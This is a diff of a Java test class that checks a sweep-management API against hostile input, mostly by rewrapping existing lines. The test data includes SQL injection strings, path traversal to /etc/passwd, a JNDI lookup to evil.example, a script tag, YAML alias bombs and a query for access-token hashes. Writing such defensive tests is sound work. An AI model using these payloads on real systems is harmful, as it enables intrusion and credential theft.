@@ -35,8 +35,8 @@ class HostileInputTest extends ApiTest {
                         "rho: [0.05, 1e-1]", """
                         rho: {from: 0.01, to: 1, steps: 10000}, lr: {from: 0.01, to: 1, steps: 10000},
                                       momentum: {from: 0.1, to: 0.9, steps: 10000}""".strip())),
-                Arguments.of("an axis of 10^9 values", YAML, 422, "/methods/1/grid/rho/steps", "10000", SIX_TRIALS.replace(
-                        "[0.05, 1e-1]", "{from: 0.01, to: 1, steps: 1000000000}")),
+                Arguments.of("an axis of 10^9 values", YAML, 422, "/methods/1/grid/rho/steps", "10000",
+                        SIX_TRIALS.replace("[0.05, 1e-1]", "{from: 0.01, to: 1, steps: 1000000000}")),
                 Arguments.of("ten levels of ten aliases", YAML, 400, "", "aliases are not allowed", aliasBomb()),
                 Arguments.of("a merged alias", YAML, 400, "", "aliases are not allowed", "a: &a {}\nb: {<<: *a}"),
                 Arguments.of("a tag that names a class", YAML, 400, "", "tags are not allowed",
@@ -45,7 +45,8 @@ class HostileInputTest extends ApiTest {
                 Arguments.of("deep YAML by indentation", YAML, 400, "", "nested deeper than 50 levels", indented(200)),
                 Arguments.of("deep JSON", JSON, 400, "", "nesting depth", "[".repeat(MANY)),
                 Arguments.of("deep JSON objects", JSON, 400, "", "nesting depth", "{\"a\":".repeat(MANY)),
-                Arguments.of("a number of many digits", JSON, 400, "", "Number value length", "{\"epochs\": " + "9".repeat(MANY) + "}"),
+                Arguments.of("a number of many digits", JSON, 400, "", "Number value length",
+                        "{\"epochs\": " + "9".repeat(MANY) + "}"),
                 Arguments.of("a number of many digits in YAML", YAML, 400, "", "longer than 100 characters",
                         "epochs: " + "9".repeat(MANY)),
                 Arguments.of("a key many times", JSON, 400, "", "uplicate",
@@ -53,8 +54,10 @@ class HostileInputTest extends ApiTest {
                 Arguments.of("a path as the dataset", YAML, 422, "/dataset", "", dataset("../../etc/passwd")),
                 Arguments.of("an absolute path", YAML, 422, "/dataset", "", dataset("/etc/passwd")),
                 Arguments.of("an address", YAML, 422, "/dataset", "", dataset("file:///etc/passwd")),
-                Arguments.of("a name that ends early", JSON, 422, "/dataset", "", "{\"dataset\": \"digits\\u0000/..\"}"),
-                Arguments.of("SQL as the dataset", YAML, 422, "/dataset", "", dataset("\"digits'; drop table trial; --\"")),
+                Arguments.of("a name that ends early", JSON, 422, "/dataset", "",
+                        "{\"dataset\": \"digits\\u0000/..\"}"),
+                Arguments.of("SQL as the dataset", YAML, 422, "/dataset", "",
+                        dataset("\"digits'; drop table trial; --\"")),
                 Arguments.of("SQL as a method", YAML, 422, "/methods/0/name", "",
                         SIX_TRIALS.replace("{name: sgd}", "{name: \"sgd' or '1' = '1\"}")),
                 Arguments.of("a name with the character that ends strings", JSON, 422, "/name", "",
@@ -80,7 +83,7 @@ class HostileInputTest extends ApiTest {
     @Test
     void shouldKeepSqlInANameAsTheTextThatItIs() {
         String name = "'; drop table trial; -- \\'; $1 :id ${jndi:ldap://evil.example} <script>";
-        long sweep = submit(SIX_TRIALS.replace("name: rho sweep", "name: " + JsonMapper.shared().writeValueAsString(name)));
+        long sweep = submit(SIX_TRIALS.replace("rho sweep", JsonMapper.shared().writeValueAsString(name)));
 
         http.get().uri("/api/v1/sweeps/{id}", sweep).exchange().expectStatus().isOk()
                 .expectBody().jsonPath("$.name").isEqualTo(name);
@@ -102,11 +105,12 @@ class HostileInputTest extends ApiTest {
         "/api/v1/sweeps/1 or true", "/api/v1/sweeps/99999999999999999999", "/api/v1/sweeps/-",
         "/api/v1/sweeps?limit=1;drop table sweep", "/api/v1/sweeps?limit=999999999", "/api/v1/sweeps?before=' or ''='",
         "/api/v1/sweeps/1/trials?state=' or true --", "/api/v1/sweeps/1/trials?limit=1000000000",
-        "/api/v1/sweeps/1/metrics?name=\0",
-        "/api/v1/sweeps/1/metrics?name=' union select sha256 from access_token --", "/api/v1/sweeps/1/table?format=../../etc/passwd",
+        "/api/v1/sweeps/1/metrics?name=\0", "/api/v1/sweeps/1/metrics?name=' union select sha256 from access_token --",
+        "/api/v1/sweeps/1/table?format=../../etc/passwd",
         "/api/v1/sweeps/1/export/pg_catalog.pg_authid", "/api/v1/sweeps/1/export/trials?format=sql",
         "/api/v1/sweeps/1/figures/..", "/api/v1/sweeps/1/figures/accuracy-against-rho?metric=' or true --",
-        "/api/v1/sweeps/1/comparison/1 union select", "/api/v1/schedules/' or true --", "/api/v1/queue/history?hours=1e9"})
+        "/api/v1/sweeps/1/comparison/1 union select", "/api/v1/schedules/' or true --",
+        "/api/v1/queue/history?hours=1e9"})
     void shouldRefuseInAnAddressWhatIsNotOfItsForm(String path) {
         submit(SIX_TRIALS);
         String problem = expectProblem(http.get().uri(builder -> {
@@ -154,11 +158,16 @@ class HostileInputTest extends ApiTest {
     }
 
     @ParameterizedTest
-    @ValueSource(strings = {"[[[[", "{\"priority\": {\"a\": 1}}", "{\"priority\": 1e999999999}", "\0", "{\"priority\": \"' or 1\"}"})
+    @MethodSource("smallBodies")
     void shouldRefuseASmallBodyThatIsNotOfItsForm(String body) {
         submit(SIX_TRIALS);
         expectProblem(http.put().uri("/api/v1/sweeps/1/priority").contentType(MediaType.APPLICATION_JSON)
-                .body(body.startsWith("[") ? "[".repeat(MANY / 2) : body).exchange());
+                .body(body).exchange());
+    }
+
+    static Stream<String> smallBodies() {
+        return Stream.of("[".repeat(MANY / 2), "{\"priority\": {\"a\": 1}}", "{\"priority\": 1e999999999}", "\0",
+                "{\"priority\": \"' or 1\"}");
     }
 
     @ParameterizedTest
